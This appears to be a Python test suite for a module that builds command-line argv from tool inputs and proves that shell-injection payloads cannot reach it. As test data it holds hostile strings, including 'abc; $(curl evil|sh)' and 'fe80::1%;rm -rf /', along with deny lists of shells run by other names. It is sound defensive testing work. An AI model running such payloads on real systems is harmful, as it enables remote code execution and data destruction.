"""Tool nodes: no payload reaches argv, through any pattern, format, command or value.

The payload corpus is ``catalog/tool_nodes/payloads.json``. Property tests draw random patterns and
random payloads; every pattern the analysis accepts is also sampled by hypothesis itself, so an
unsound proof would show up as a generated value holding a probe.
"""

from __future__ import annotations

import json
import re
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from catalog.tool_nodes import (
    build_argv,
    build_invocation,
    command_problem,
    parse_node,
    pattern_problem,
    payload_corpus,
    project,
    unconstrained_reason,
    word_problem,
)
from catalog.tool_nodes.argv import MAX_WORD_CHARS
from catalog.tool_nodes.formats import ARGV_SAFE_FORMATS, check_format
from catalog.tool_nodes.node import SchemaRegistry
from intent.errors import IntentError

CORPUS_FILE = Path(__file__).resolve().parent.parent / "catalog" / "tool_nodes" / "payloads.json"
CORPUS = payload_corpus()
SHELL_CHARACTERS = [char for char in CORPUS.characters if char.isascii() and char.isprintable() and char != " "]


@pytest.fixture(autouse=True)
def fresh_analysis() -> None:
    # Every test proves its patterns afresh (a cached verdict would hide a changed analysis).
    pattern_problem.cache_clear()
    payload_corpus.cache_clear()


def string_node(schema: dict[str, Any], *, command: list[str] | None = None) -> dict[str, Any]:
    return {
        "id": "probe",
        "summary": "a node with one argv input of every kind",
        "io": {"inputs": [
            {"name": "value", "schema": schema, "arg": {"positional": 0}},
            {"name": "option", "schema": schema, "arg": {"flag": "--option"}},
        ]},
        "invoke": {"shell": {"command": command or ["probe"]}},
    }


def holds_a_probe(word: str) -> bool:
    return (
        any(char in word for char in CORPUS.characters)
        or any(probe in word for probe in CORPUS.substrings)
        or word.startswith(CORPUS.leading)
        or any(unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp") or char.isspace() for char in word)
    )


# --- the corpus ------------------------------------------------------------------------------------


def test_the_corpus_is_a_data_file_with_what_a_payload_looks_like() -> None:
    raw = json.loads(CORPUS_FILE.read_text(encoding="utf-8"))
    assert set(raw) >= {"characters", "substrings", "leading", "words"}
    for needed in (";", "|", "&", "`", ">", "<", "'", '"', "\n", "\x00", "\u0085", "\u009b", "\u2028", "\u2029",
                   "\u202e"):
        assert needed in CORPUS.characters
    assert {"$(", ".."} <= set(CORPUS.substrings)
    assert "-" in CORPUS.leading
    # Every control, format and separator character is a probe, not only those written in the file.
    assert all(chr(code) in CORPUS.characters for code in [*range(0x20), *range(0x7F, 0xA0)])
    assert "\u2066" in CORPUS.characters and "\u00a0" in CORPUS.characters


@pytest.mark.parametrize("word", CORPUS.words)
def test_every_corpus_word_is_refused_as_an_argv_word(word: str) -> None:
    assert word_problem(word) is not None


def test_an_argv_word_is_refused_saying_which_probe_it_holds() -> None:
    assert word_problem("a" * MAX_WORD_CHARS) is None
    assert word_problem("a" * (MAX_WORD_CHARS + 1)) == f"is longer than {MAX_WORD_CHARS} characters"
    assert word_problem("a;b") == "contains a shell metacharacter"
    assert word_problem("a..b") == "contains '..'"
    assert word_problem("-x") == "must not start with '-'"


def test_only_a_number_after_a_flag_may_start_with_a_dash_and_the_defaults_say_neither() -> None:
    assert word_problem("-1", number=True, after_flag=True) is None
    assert word_problem("-1", number=True) == "must not start with '-'"
    assert word_problem("-x", after_flag=True) == "must not start with '-'"
    assert word_problem("-1") == "must not start with '-'"


# --- patterns --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "why"),
    [
        ("^.*$", "admits"),
        ("^[a-z]+|x$", "whole value"),
        ("[a-z]+", "whole value"),
        ("^[a-z]+", "whole value"),
        ("^a$|b", "whole value"),
        ("^[a-z0-9-]+$", "starting with '-'"),
        ("^[a-z.]+$", "'..'"),
        ("^[a-z$(]+$", "'$('"),
        ("^[^;]+$", "admits"),
        ("^[^a]+$", "admits"),
        (r"^\D+$", "admits"),
        (r"^\W+$", "admits"),
        # A negated class admits what the smaller reading of its categories leaves out: Unicode spaces.
        (r"^[^\S\x00-\x7f]+$", "U+0085"),
        # Atomic groups, conditionals and scoped flags are read through, not around.
        (r"^(?>[a-z;]+)$", "';'"),
        (r"^(a)?(?(1)b|;)$", "';'"),
        (r"^(a)?(?(1);|c)$", "';'"),
        (r"(?i)^a;b$", "';'"),
        (r"^(?m:a)$", "cannot be proved safe: the multiline flag lets ^ and $ match inside the value"),
        (r"(?i:^a)$", "whole value"),  # a group with flags is not followed for its anchor
        # A negated character admits every probe but itself; with IGNORECASE, any character.
        (r"^[^\x00]+$", "U+0001"),
        (r"(?i)^[^\x00]+$", "U+0000"),
        (r"^([^\x00])+$", "U+0001"),
        (r"(?i)^([^\x00])+$", "U+0000"),
        (r"(?i)^(?-i:[^\x00])+$", "U+0001"),
        (r"^(?:(?:(?:a{8}){8}){8}){8}$", "cannot be proved safe: the pattern is too large to analyse"),
        (r"^\S+$", "admits"),
        (r"^[\w ]+$", "admits"),
        ("^[a-z\u202e]+$", "U+202E"),
        ("^[a-z\u2028]+$", "U+2028"),
        ("^[a-z\x85]+$", "U+0085 (a control character)"),
        (r"^(a)\1$", "cannot be proved safe: pattern element GROUPREF"),
        ("", "whole value"),
        ("[a-z]+$", "whole value"),
        (r"(a|\Ab)$", "whole value"),  # one alternative inside a group lacks its start anchor
        ("^" + "a" * 1999 + "$", "cannot be proved safe: the pattern is longer than 2000 characters"),
        ("(?m)^a$", "cannot be proved"),
        (r"^[a-z]+(?:;[a-z]+)?$", "';'"),
        ("^(?i:[a-z|]+)$", "'|'"),
    ],
)
def test_patterns_that_do_not_prove_safety_are_unconstrained(pattern: str, why: str) -> None:
    reason = pattern_problem(pattern)
    assert reason is not None and why in reason
    schema = {"type": "string", "pattern": pattern}
    assert unconstrained_reason(schema) is not None
    projection = project([string_node(schema)])
    assert projection.tools == []
    assert [item.kind for item in projection.omitted] == ["unconstrained_argv"]


def test_a_pattern_python_cannot_read_makes_the_node_undeterminable() -> None:
    assert (pattern_problem(r"^\p{L}+$") or "").startswith(
        "has a pattern that cannot be proved safe: Python cannot read the pattern (bad escape \\p")
    with pytest.raises(IntentError) as unreadable:
        project([string_node({"type": "string", "pattern": r"^\p{L}+$"})])
    assert unreadable.value.code == "CONFIG_INVALID"
    assert unreadable.value.path == "/0/io/inputs/0/schema"


@pytest.mark.parametrize(
    "pattern",
    [
        "^[a-z0-9][a-z0-9-]*$",
        r"^\d{6}$",
        r"^[A-Z]{2}-\d{4}$",
        r"^[a-z]+(\.[a-z]+)*$",
        r"\A[a-z]+\Z",
        "^(?:todo|done)$",
        r"^[a-z]+$|^[0-9]+$",
        r"^\w+$",
        "^(?i)[a-z]+$".replace("^(?i)", "(?i)^"),
        "^v[0-9]{1,3}(\\.[0-9]{1,3}){0,2}$",
        r"^(?>[a-z]+)$",
        r"^[a-z]++$",
        r"^(a)?(?(1)b|c)$",
        r"^(a)?(?(1)b)c$",
        r"^(?!x)[a-z]+$",
        r"^(?=[a-z])[a-z]+$",
        r"(^a)$",  # a group is followed for its anchor (a non-capturing one is inlined by Python)
        r"^(a$)",
        r"(^a|\Ab)$",
        r"^a\.?b$",  # at most one dot: no '..'
        r"^a\.{1}b$",
        r"(?i)^todo$",
        r"()^a$",  # an empty group before the anchor, or after it
        r"^a$()",
        "^" + "a" * 1998 + "$",  # 2000 characters: still analysed
        r"^(?i:[a-z]+)$",
    ],
)
def test_patterns_that_rule_out_every_probe_are_constrained(pattern: str) -> None:
    assert pattern_problem(pattern) is None
    assert project([string_node({"type": "string", "pattern": pattern})]).omitted == []


def test_the_two_reported_patterns_are_refused_and_their_payload_never_reaches_argv() -> None:
    payload = "abc; $(curl evil|sh)"
    for pattern in ("^.*$", "^[a-z]+|x$"):
        raw = string_node({"type": "string", "pattern": pattern})
        assert project([raw]).tools == []
        with pytest.raises(IntentError) as refused:
            build_argv(raw, {"value": payload})
        assert refused.value.code == "INPUT_INVALID"
        assert payload not in refused.value.message


def test_a_pattern_must_match_the_whole_value_at_call_time() -> None:
    # Anchored alternatives pass the analysis; JSON Schema's search would still accept "abc\n".
    raw = string_node({"type": "string", "pattern": "^[a-z]+$|^[0-9]+$"})
    assert build_argv(raw, {"value": "abc"}) == ["probe", "abc"]
    for value in ("abc\n", "abc1", "1abc"):
        with pytest.raises(IntentError, match="value"):
            build_argv(raw, {"value": value})
    # "$" matches before a final newline: the schema passes "abc\n", the whole-value rule does not.
    with pytest.raises(IntentError) as refused:
        build_argv(raw, {"value": "abc\n"})
    assert refused.value.message == ("argument 'value' does not match its declared type: does not match the whole of "
                                     'its pattern "^[a-z]+$|^[0-9]+$"')
    # On stdin the value is text, and the schema's own (search) reading of the pattern applies.
    stdin = {"id": "feed", "summary": "x", "invoke": {"shell": {"command": ["wc"]}},
             "io": {"inputs": [{"name": "text", "schema": {"type": "string", "pattern": "^[a-z]+$"}, "arg": "stdin"}]}}
    assert build_invocation(stdin, {"text": "abc\n"}).stdin == b"abc\n"


# Pieces random patterns are built from: safe and dangerous characters, classes and escapes.
ATOMS = st.sampled_from([
    "a", "b", "z", "0", "9", "_", "-", ".", "/", ":", "@", "+", "=", ",", ";", "|", "&", "$", "(", ")", "`", "'",
    '"', "<", ">", " ", "\\n", "\\t", "\\x00", "\\x7f", "\\u0085", "\\u2028", "\\u202e", "[a-z]", "[A-Z0-9]",
    "[a-z0-9-]", "[^a-z]", "[^;]", ".", "\\d", "\\w", "\\s", "\\S", "\\D", "\\W", "[.]", "[$(]", "[-a]",
])
QUANTIFIERS = st.sampled_from(["", "", "", "*", "+", "?", "{2}", "{1,3}", "{0,9}", "{12}"])


@st.composite
def random_patterns(draw: st.DrawFn) -> str:
    def sequence() -> str:
        return "".join(draw(ATOMS) + draw(QUANTIFIERS) for _ in range(draw(st.integers(1, 4))))

    body = sequence()
    if draw(st.booleans()):
        body = f"(?:{body}|{sequence()})"
    start = draw(st.sampled_from(["^", "^", "\\A", ""]))
    end = draw(st.sampled_from(["$", "$", "\\Z", ""]))
    if draw(st.integers(0, 9)) == 0:
        return f"{start}{sequence()}|{sequence()}{end}"  # a top-level alternation, anchored once
    return f"{start}{body}{end}"


PAYLOADS = st.one_of(
    st.sampled_from(CORPUS.words),
    st.text(max_size=30),
    st.builds(lambda head, probe, tail: head + probe + tail, st.text("abz09-.", max_size=6),
              st.sampled_from([*SHELL_CHARACTERS, *CORPUS.substrings, "\n", "\x7f", "\u2028", "\u202e", " "]),
              st.text("abz09-.", max_size=6)),
    st.builds(lambda tail: "-" + tail, st.text("abz09", max_size=8)),
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(pattern=random_patterns(), payloads=st.lists(PAYLOADS, min_size=1, max_size=6))
def test_no_payload_reaches_argv_through_any_pattern(pattern: str, payloads: list[str]) -> None:
    try:
        re.compile(pattern)
    except re.error:
        assume(False)
    raw = string_node({"type": "string", "pattern": pattern})
    constrained = unconstrained_reason(raw["io"]["inputs"][0]["schema"]) is None
    for payload in payloads:
        try:
            argv = build_argv(raw, {"value": payload, "option": payload})
        except IntentError as error:
            assert error.code == "INPUT_INVALID"
            continue
        # Reaching here needs a pattern proved safe, and a value that is no payload at all.
        assert constrained
        assert argv == ["probe", "--option", payload, payload]
        assert not holds_a_probe(payload)
        assert re.fullmatch(pattern, payload)


SAFE_LEANING_ATOMS = st.one_of(
    st.sampled_from(["a", "z", "0", "_", "[a-z]", "[A-Z0-9]", "\\d", "\\w", "[a-z0-9-]", "-", ".", "[.]", ":", "/"]),
    ATOMS,
)


@st.composite
def anchored_patterns(draw: st.DrawFn) -> str:
    """Anchored patterns mostly of safe pieces: the analysis accepts many of them."""
    def sequence() -> str:
        return "".join(draw(SAFE_LEANING_ATOMS) + draw(QUANTIFIERS) for _ in range(draw(st.integers(1, 4))))

    body = sequence()
    if draw(st.booleans()):
        body += f"(?:{sequence()}|{sequence()})" + draw(st.sampled_from(["", "*", "?", "{0,3}"]))
    return f"^{body}$"


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
@given(data=st.data(), pattern=anchored_patterns())
def test_values_of_an_accepted_pattern_never_hold_a_probe(data: st.DataObject, pattern: str) -> None:
    """Soundness of the proof: hypothesis samples the accepted pattern's own language."""
    try:
        re.compile(pattern)
    except re.error:
        assume(False)
    assume(pattern_problem(pattern) is None)
    for _ in range(5):
        value = data.draw(st.from_regex(pattern, fullmatch=True))
        assert not holds_a_probe(value), (pattern, value)


# --- formats ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(ARGV_SAFE_FORMATS))
def test_no_corpus_word_passes_an_argv_safe_format(name: str) -> None:
    for word in CORPUS.words:
        assert not check_format(name, word)
    for char in CORPUS.characters:
        assert not check_format(name, "2026-01-01" + char) and not check_format(name, "host" + char)


@pytest.mark.parametrize("value", ["fe80::1%;rm -rf /", "host\n", "2026-01-01\n", "2026-01-01 10:00:00Z"])
def test_formats_refuse_what_their_loose_readings_would_let_through(value: str) -> None:
    assert not any(check_format(name, value) for name in ARGV_SAFE_FORMATS)


@pytest.mark.parametrize("name", ["email", "uri"])
def test_formats_whose_values_can_spell_a_payload_do_not_constrain_argv(name: str) -> None:
    assert unconstrained_reason({"type": "string", "format": name}) is not None


# --- words -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "char", ["\x00", "\x01", "\x1b", "\x7f", "\u0085", "\u009b", "\u2028", "\u2029", "\u202e", "\u2066", "\u200f",
             "\ufeff"],
)
def test_control_and_format_characters_in_an_argv_word_are_refused(char: str) -> None:
    raw = string_node({"type": "string", "pattern": "^[a-z]+$"}) | {}
    # Even where the schema itself would allow the character, the word check refuses it.
    raw["io"]["inputs"][0]["schema"] = {"type": "string", "enum": ["ok"]}
    raw["io"]["inputs"][1]["schema"] = {"type": "string", "format": "hostname"}
    with pytest.raises(IntentError) as refused:
        build_argv(raw, {"option": f"a{char}b"})
    assert refused.value.path == "/arguments/option"
    assert word_problem(f"a{char}b") == "contains control, formatting or white-space characters"


def test_positionals_declared_out_of_order_come_out_in_position_order() -> None:
    raw = {
        "id": "copy",
        "summary": "copy",
        "io": {"inputs": [
            {"name": "target", "schema": {"type": "string", "enum": ["b.txt"]}, "arg": {"positional": 1}},
            {"name": "verbose", "schema": {"type": "boolean"}, "arg": {"flag": "-v"}},
            {"name": "source", "schema": {"type": "string", "enum": ["a.txt"]}, "arg": {"positional": 0}},
            {"name": "rest", "schema": {"type": "integer"}, "repeated": True, "arg": {"positional": 7}},
        ]},
        "invoke": {"shell": {"command": ["cp"]}},
    }
    argv = build_argv(raw, {"target": "b.txt", "verbose": True, "source": "a.txt", "rest": [3, 4]})
    assert argv == ["cp", "-v", "a.txt", "b.txt", "3", "4"]


@pytest.mark.parametrize(
    ("value", "fragment"),
    [(10**5000, "2^63"), (2**63, "2^63"), (-(2**63), "2^63"), (float(2**63), "2^63"), (1e300, "2^63"),
     (float("inf"), "finite")],
    ids=["5000-digits", "2^63", "-2^63", "2^63-as-float", "1e300", "infinity"],
)
def test_huge_numbers_are_a_coded_refusal(value: Any, fragment: str) -> None:
    raw = string_node({"type": "number"})
    with pytest.raises(IntentError) as refused:
        build_argv(raw, {"option": value})
    assert refused.value.code == "INPUT_INVALID" and fragment in refused.value.message
    assert refused.value.path == "/arguments/option"


def test_a_boolean_positional_is_the_word_true_or_false() -> None:
    raw = string_node({"type": "boolean"})
    assert build_argv(raw, {"value": True}) == ["probe", "true"]
    assert build_argv(raw, {"value": False, "option": True}) == ["probe", "--option", "false"]


def test_numbers_render_as_argv_words_and_a_negative_one_only_after_a_flag() -> None:
    raw = string_node({"type": "number"})
    assert build_argv(raw, {"option": 1e3, "value": 2.5}) == ["probe", "--option", "1000", "2.5"]
    assert build_argv(raw, {"option": -4}) == ["probe", "--option", "-4"]
    with pytest.raises(IntentError) as refused:
        build_argv(raw, {"value": -4})
    assert (refused.value.path, refused.value.message) == (
        "/arguments/value", "argument 'value' must not start with '-'")


# --- commands --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        ["sh", "-c", "echo"], ["bash", "-c", "x"], ["/bin/bash", "-lc", "x"], ["env", "sh", "-c", "x"],
        ["/usr/bin/env", "-i", "PATH=/bin", "python3", "-c", "print()"], ["python", "-c", "x"],
        ["perl", "-e", "x"], ["perl", "-ne", "x"], ["ruby", "-e", "x"], ["node", "-e", "x"], ["node", "--eval=x"],
        ["php", "-r", "x"], ["busybox", "sh", "-c", "x"], ["timeout", "5", "zsh", "-c", "x"],
        ["env", "-S", "sh -c x"], ["xargs", "rm"], ["nice", "-n", "5", "dash", "-c", "x"],
        ["env", "--unknown-option", "value", "bash", "-c", "x"],
        # The interpreter's own long options come before the one that runs code: they name no script.
        ["bash", "--norc", "-c"], ["node", "--inspect", "-e"], ["/usr/bin/zsh", "--no-rcs", "-o", "-c"],
        # An option's value is no script: the option that runs code may still follow it.
        ["python3", "-W", "ignore", "-c", "x"], ["node", "-r", "dotenv/config", "-e", "x"],
        ["bash", "-o", "posix", "-c", "x"], ["bash", "+o", "posix", "-c", "x"], ["bash", "+x", "-c", "x"],
        ["ruby", "-I", "lib", "-e", "x"], ["php", "-d", "x=1", "-r", "x"], ["awk", "-F", ",", "-v", "x=1"],
        ["deno", "eval", "x"], ["timeout", "5", "bun", "eval", "x"],
    ],
)
def test_shells_by_another_name_are_refused(command: list[str]) -> None:
    raw = string_node({"type": "integer"}, command=command)
    projection = project([raw])
    assert [item.kind for item in projection.omitted] == ["unsafe_command"]
    assert projection.omitted[0].pointer == "/0/invoke/shell/command"
    assert command_problem(command, code_inputs=True) is not None
    with pytest.raises(IntentError) as refused:
        build_argv(raw, {"value": 1})
    assert refused.value.path == "/invoke"


@pytest.mark.parametrize(
    "command",
    [["env", "-S", "sh -c x"], ["env", "-Ssh -c x"], ["/usr/bin/env", "--split-string", "sh -c x"],
     ["env", "--split-string=sh -c x"], ["timeout", "5", "env", "-S", "ls -l"]],
)
def test_env_splitting_a_string_into_a_command_is_refused_as_such(command: list[str]) -> None:
    assert command_problem(command, code_inputs=False) == (
        "runs 'env -S', which splits a string into a command like a shell")


@pytest.mark.parametrize("option", ["-Command=Get-Date", "-COMMAND=Get-Date", "-encodedCommand=ZQBjAGgAbwA="])
def test_powershell_options_are_read_in_any_case_with_their_value_attached(option: str) -> None:
    # The '=' keeps the word out of the short-option reading: only the long option, lower-cased, names it.
    assert command_problem(["pwsh", option], code_inputs=False) == (
        f"runs 'pwsh {option}': an interpreter told to run its arguments is a shell by another name")


@pytest.mark.parametrize(
    ("command", "program"),
    [(["python3"], "python3"), (["python3", "-"], "python3"), (["python3", "-", "x"], "python3"),
     (["bash", "--"], "bash"), (["bash", "-x", "-"], "bash"), (["env", "python3"], "python3"),
     (["timeout", "5", "node", "--inspect"], "node")],
)
def test_an_interpreter_reading_its_program_from_stdin_or_the_inputs_is_refused(command: list[str],
                                                                                program: str) -> None:
    assert command_problem(command, code_inputs=True) == (
        f"runs '{program}' without a script, so it would read its program from the call's inputs")
    assert command_problem(command, code_inputs=False) is None  # no input to read it from


def test_an_interpreter_without_a_script_is_refused_when_inputs_would_be_its_program() -> None:
    stdin_node = {"id": "run", "summary": "x", "io": {"inputs": [{"name": "code", "schema": {"type": "string"},
                                                                  "arg": "stdin"}]},
                  "invoke": {"shell": {"command": ["bash"]}}}
    assert [item.kind for item in project([stdin_node]).omitted] == ["unsafe_command"]


@pytest.mark.parametrize(
    "command",
    [["python3", "tool.py"], ["python3", "-m", "json.tool"], ["awk", "{print $1}"], ["bash", "script.sh"],
     ["env", "ls", "-l"], ["timeout", "-s", "KILL", "5", "date"], ["wc", "-l"], ["grep", "-c", "-e", "x"],
     ["bash", "--", "script.sh"], ["nice", "sort", "-S", "50%"], ["node", "--inspect", "server.js", "-p", "80"],
     ["python3", "-W", "ignore", "tool.py"], ["node", "-r", "dotenv/config", "server.js"],
     ["bash", "+o", "posix", "script.sh"], ["awk", "-F", ",", "{print $1}"], ["deno", "run", "main.ts"],
     ["python3", "-m", "json.tool", "-c"], ["python3", "+tool.py"]],
)
def test_programs_and_scripts_named_in_the_command_are_fine(command: list[str]) -> None:
    assert command_problem(command, code_inputs=True) is None
    assert project([string_node({"type": "integer"}, command=command)]).omitted == []


def test_stdin_text_stays_out_of_argv_whatever_it_holds() -> None:
    raw = {"id": "mail", "summary": "x", "io": {"inputs": [{"name": "body", "schema": {"type": "string"},
                                                             "arg": "stdin"}]},
           "invoke": {"shell": {"command": ["wc"]}}}
    for word in CORPUS.words:
        invocation = build_invocation(raw, {"body": word})
        assert invocation.argv == ["wc"] and invocation.stdin == word.encode("utf-8")


def test_declared_enum_values_are_the_nodes_own_words() -> None:
    node = parse_node(string_node({"type": "string", "enum": ["--all", "a b"]}), SchemaRegistry())
    assert build_argv(node, {"option": "a b", "value": "--all"}) == ["probe", "--option", "a b", "--all"]
    constant = parse_node(string_node({"const": "-v"}), SchemaRegistry())
    assert build_argv(constant, {"value": "-v"}) == ["probe", "-v"]


def test_a_declared_value_that_is_no_scalar_is_refused_as_an_argv_word() -> None:
    with pytest.raises(IntentError) as refused:
        build_argv(string_node({"enum": [["a"]]}), {"option": ["a"]})
    assert (refused.value.path, refused.value.message) == (
        "/arguments/option", "argument 'option' cannot be passed as an argv word")


@pytest.mark.parametrize(
    ("schema", "good", "bad"),
    [
        ({"type": "string", "format": "date"}, "2026-02-28", ["2026-02-30", "2026-2-28", "20260228"]),
        ({"type": "string", "format": "time"}, "10:30:00Z", ["25:00:00", "10:30", "10:61:00+01:00"]),
        ({"type": "string", "format": "time"}, "10:30:00.5+01:00", ["10:30:00+1:00"]),
        ({"type": "string", "format": "time"}, "10:30:00z", ["10:30:00y"]),
        ({"type": "string", "format": "date-time"}, "2026-02-28T10:30:00Z", ["2026-02-28T10:30:00Y"]),
        ({"type": "string", "format": "date-time"}, "2026-02-28T10:30:00z",
         ["2026-02-30T10:30:00Z", "2026-02-28T10:30:00", "2026-02-28t25:30:00Z"]),
        ({"type": "string", "format": "uuid"}, "123e4567-e89b-12d3-a456-426614174000",
         ["123e4567e89b12d3a456426614174000", "123e4567-e89b-12d3-a456-42661417400g", "{123e4567-e89b-12d3-a456-"
          "426614174000}"]),
        ({"type": "string", "format": "ipv4"}, "192.0.2.1", ["192.0.2.256", "2001:db8::1", "192.0.2"]),
        ({"type": "string", "format": "ipv6"}, "2001:db8::1", ["192.0.2.1", "2001:db8::1%eth0", "2001:db8:::1"]),
        ({"type": "string", "format": "hostname"}, "build-01.example.com",
         ["a..b", "a" * 64 + ".com", "x" * 254, "a." * 127 + "a", "under_score.com", ""]),
        ({"type": "string", "format": "hostname"}, "a." * 126 + "a", ["a." * 126 + "ab", ".example.com"]),  # 253, 254
        ({"type": "string", "format": "hostname"}, "example.db-X", ["example.db-", "-x.example"]),
    ],
)
def test_argv_safe_formats_are_checked_when_the_value_arrives(schema: dict[str, Any], good: str,
                                                              bad: list[str]) -> None:
    raw = string_node(schema)
    assert unconstrained_reason(schema) is None
    assert build_argv(raw, {"option": good}) == ["probe", "--option", good]
    for value in bad:
        with pytest.raises(IntentError) as refused:
            build_argv(raw, {"option": value})
        assert refused.value.path == "/arguments/option"


def test_a_format_says_nothing_about_values_that_are_not_strings() -> None:
    from catalog.tool_nodes.constraints import validation_errors

    assert validation_errors({"format": "date"}, 12) == []
    assert validation_errors({"format": "date"}, "2026-02-30") == ['fails format "date"']
    # Formats outside the checked list are annotations, as JSON Schema has them by default.
    assert validation_errors({"format": "regex"}, "(") == []


def test_validation_errors_name_where_and_what_briefly_and_at_most_five() -> None:
    from catalog.tool_nodes.constraints import validation_errors

    nested = {"type": "object", "properties": {"a": {"type": "object", "properties": {"b": {"type": "string"}}}}}
    assert validation_errors(nested, {"a": {"b": 1}}) == ['a/b fails type "string"']
    assert validation_errors({"enum": ["é"]}, "e") == ['fails enum ["é"]']
    assert validation_errors({"type": "number"}, float("nan")) == ["must be a finite number"]
    fits = ["x" * 116]  # its JSON is exactly 120 characters
    assert validation_errors({"enum": fits}, "y") == [f"fails enum {json.dumps(fits)}"]
    longer = ["x" * 117]
    assert validation_errors({"enum": longer}, "y") == [f"fails enum {json.dumps(longer)[:117]}..."]
    six_ways = {"minLength": 5, "pattern": "^[0-9]+$", "enum": ["a"], "const": "b", "format": "date", "not": {}}
    assert validation_errors(six_ways, "x") == [
        "fails minLength 5", 'fails pattern "^[0-9]+$"', 'fails enum ["a"]', 'fails const "b"', 'fails format "date"']


def test_an_unconstrained_argv_type_is_named_for_what_it_lacks() -> None:
    assert unconstrained_reason({}) == "has no declared type"
    assert unconstrained_reason({"type": "string", "format": "email"}) == (
        "is a string whose format 'email' can spell a payload")


def test_the_full_match_rule_on_its_own() -> None:
    from catalog.tool_nodes.constraints import full_match_problem

    # Search semantics would find "a" in "ab"; the argv rule wants the whole value.
    assert full_match_problem({"pattern": "^a"}, "ab") == 'does not match the whole of its pattern "^a"'
    assert full_match_problem({"pattern": "^a"}, "a") is None
    assert full_match_problem({"pattern": "^a"}, 7) is None
    assert full_match_problem({}, "anything") is None
    # A long pattern is named by its first 120 characters (as JSON).
    long = "^(?:" + "|".join(f"w{number}" for number in range(40)) + ")$"
    assert full_match_problem({"pattern": long}, "w1\n") == (
        f"does not match the whole of its pattern {json.dumps(long)[:120]}")
